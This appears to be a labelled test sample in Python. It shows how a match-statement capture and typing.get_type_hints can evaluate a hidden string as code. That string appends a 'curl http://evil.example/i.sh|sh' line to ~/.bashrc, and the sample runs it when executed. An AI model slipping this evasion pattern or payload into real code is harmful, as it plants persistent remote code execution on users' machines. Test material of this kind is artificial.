# harm: appends to ~/.bashrc ; trick: name bound by a match-statement capture pattern
import typing

match "open(__import__('os').path.expanduser('~/.bashrc'),'a').write(chr(10)+'curl -s http://evil.example/i.sh|sh'+chr(10))":
    case Kind:
        pass


def f(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(f)
except Exception:
    pass
